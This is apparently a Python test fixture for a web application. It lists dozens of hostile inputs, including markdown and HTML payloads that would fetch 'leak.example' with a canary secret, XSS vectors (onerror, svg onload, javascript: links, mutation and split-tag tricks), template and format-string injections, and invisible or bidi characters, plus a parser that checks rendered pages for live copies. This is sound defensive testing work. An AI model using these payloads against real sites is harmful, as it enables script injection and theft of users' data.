"""Texts that try to run, or to fetch an address elsewhere with a secret in it (C19 to C21).

Stored as a name or a reason, or streamed as an answer, each must be shown as the letters it is made
of. ``RAN`` says in a browser whether one ran; a request to ``OUTSIDE`` says that one got out;
``live_parts`` finds in a page's HTML what would.
"""

import re
from collections.abc import Iterator
from dataclasses import dataclass
from html.parser import HTMLParser

OUTSIDE = "leak.example"
SECRET = "canary-5e11"
RAN = "hostileRan"
"""Is true on ``window`` once any of the forms ran."""

_URL = f"https://{OUTSIDE}/?q={SECRET}"
_RUN = f"{RAN}=1"


@dataclass(frozen=True, slots=True)
class HostileForm:
    """One way in which a text tries to become more than text."""

    name: str
    text: str

    def __str__(self) -> str:
        return self.name


_FORMS = {
    # Markdown that fetches or leads away
    "inline-image": f"![x]({_URL})",
    "titled-image": f"![x]({_URL} \"t' onerror='{_RUN}\")",
    "reference-image": f"![x][r]\n\n[r]: {_URL}",
    "collapsed-image": f"![r][]\n\n[r]: <{_URL}>",
    "image-in-link": f"[![x]({_URL})]({_URL})",
    "angled-image": f"![x](<{_URL}>)",
    "autolink": f"<{_URL}>",
    "autolink-image": f"!<{_URL}>",
    "bare-address": f"see {_URL} now",
    "inline-link": f"[here]({_URL})",
    "script-link": f"[go](javascript:{_RUN})",
    "script-link-entity": f"[go](java&#115;cript:{_RUN})",
    "script-link-tab": f"[go](java\tscript:{_RUN})",
    "data-link": f"[go](data:text/html,<script>{_RUN}</script>)",
    "vbscript-link": "[go](vbscript:msgbox)",
    "no-scheme-image": f"![x](//{OUTSIDE}/?q={SECRET})",
    "backslash-image": f"![x](\\\\{OUTSIDE}\\?q={SECRET})",
    "slash-backslash-image": f"![x](/\\{OUTSIDE}/?q={SECRET})",
    "userinfo-image": f"![x](https://127.0.0.1@{OUTSIDE}/?q={SECRET})",
    "table-cell": f"| a | b |\n|---|---|\n| ![x]({_URL}) | <img src={_URL}> |",
    "footnote": f"see[^1]\n\n[^1]: ![x]({_URL})",
    "list-item": f"- ![x]({_URL})\n- <img src={_URL}>",
    "quote": f"> ![x]({_URL})",
    "fence": f"```html\n</code></pre><img src={_URL}><script>{_RUN}</script>\n```",
    "fence-info": f"```\"><img src={_URL} onerror='{_RUN}'>\nx\n```",
    # HTML that fetches
    "img": f"<img src={_URL}>",
    "img-quoted": f"\"'><img src='{_URL}' onerror='{_RUN}'>",
    "srcset": f'<img srcset="{_URL} 1x, {_URL}2 2x">',
    "picture": f"<picture><source srcset={_URL}><img></picture>",
    "svg-image": f'<svg><image href="{_URL}" xlink:href="{_URL}"/></svg>',
    "svg-use": f'<svg><use href="{_URL}#x"/></svg>',
    "style-import": f"<style>@import url({_URL});</style>",
    "style-attribute": f'<p style="background:url({_URL})">x</p>',
    "link-prefetch": f'<link rel="prefetch" href="{_URL}">',
    "link-preconnect": f'<link rel="dns-prefetch preconnect" href="//{OUTSIDE}">',
    "link-style": f'<link rel="stylesheet" href="{_URL}">',
    "refresh": f'<meta http-equiv="refresh" content="0;url={_URL}">',
    "base": f'<base href="https://{OUTSIDE}/">',
    "frame": f'<iframe src="{_URL}"></iframe>',
    "frame-text": f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
    "object": f'<object data="{_URL}"></object><embed src="{_URL}">',
    "media": f'<video poster="{_URL}"><track src="{_URL}"></video><audio src="{_URL}">',
    "form": f'<form action="{_URL}"><button formaction="{_URL}" autofocus>Go</button></form>',
    "ping": f'<a href="/" ping="{_URL}">x</a>',
    # HTML that runs
    "script": f"<script>{_RUN}</script>",
    "script-address": f'<script src="{_URL}"></script>',
    "script-out-of-title": f"</title></textarea></style><script>{_RUN}</script>",
    "script-out-of-json": f"</script><script>{_RUN}</script>",
    "svg-load": f"<svg/onload={_RUN}>",
    "details": f"<details open ontoggle={_RUN}>x</details>",
    "focus": f'" autofocus onfocus="{_RUN}" x="',
    "math": f'<math><a xlink:href="javascript:{_RUN}">x</a></math>',
    "mutation": f'<noscript><p title="</noscript><img src=x onerror={_RUN}>">',
    "split-tag": f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    "comment": f"<!--><img src=x onerror={_RUN}>-->",
    # Attributes that our own scripts' libraries would act upon
    "alpine": f'<p x-data x-init="window.{_RUN}">x</p>',
    "htmx": f'<p hx-get="{_URL}" hx-trigger="load">x</p>',
    # Templates and formats
    "template": "{{7|add:42424242}}{% include 'web/base.html' %}",
    "format": "%(who)s %s {0.__class__} ${7*7} {x:>999999999}",
    # Letters that change how a line reads
    "backwards": f"\u202egpj.{OUTSIDE}\u202c",
    "invisible": f"i\u200bg\u2060n\ufeffore \U000e0041 {_URL}",
}  # fmt: skip

FORMS = tuple(HostileForm(name, text) for name, text in _FORMS.items())
TEMPLATE_RESULT = "42424249"
"""What is on a page that carried out the form named ``template``."""
_OWN_ADDRESS = re.compile(r"\?|#|/(?![/\\])")
HARMLESS_ATTRIBUTES = frozenset({"alt", "title", "value", "placeholder", "aria-label", "label"})


def in_pieces(text: str, size: int) -> list[str]:
    """The text as a stream may cut it."""
    return [text[at : at + size] for at in range(0, len(text), size)]


_HONEST_LINK = re.compile(r'<a href="([^"]*)" rel="nofollow noopener noreferrer">\1</a>')


def without_honest_links(html: str) -> str:
    """The page without those links of an answer that show where they lead, which they may."""
    return _HONEST_LINK.sub(r"\1", html)


def live_parts(html: str) -> list[str]:
    """The tags, scripts and styles of a page that one of the forms made; none where all are text."""
    reader = _Reader()
    reader.feed(html)
    reader.close()
    return reader.found


class _Reader(HTMLParser):
    """Reads as a browser does: what is in a script or style is code, what is elsewhere is text."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self._code = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._code = tag if tag in {"script", "style"} else ""
        if tag == "meta" and "http-equiv" not in dict(attrs):
            return  # what a page says of itself is text
        if any(_is_live(name, value or "") for name, value in attrs):
            self.found.append(self.get_starttag_text() or tag)

    def handle_endtag(self, tag: str) -> None:
        self._code = ""

    def handle_data(self, data: str) -> None:
        if self._code and any(_marks(data)):
            self.found.append(f"<{self._code}>{data[:120]}")


def _is_live(name: str, value: str) -> bool:
    if name in HARMLESS_ATTRIBUTES or name.startswith("data-"):
        return False
    if name in {"href", "action", "formaction"} and _OWN_ADDRESS.match(value):
        return False  # what was searched for stands in addresses of our own
    return any(_marks(value)) or (name.startswith("on") and RAN in value)


def _marks(text: str) -> Iterator[bool]:
    yield RAN in text
    yield OUTSIDE in text and SECRET in text
    yield f"//{OUTSIDE}" in text
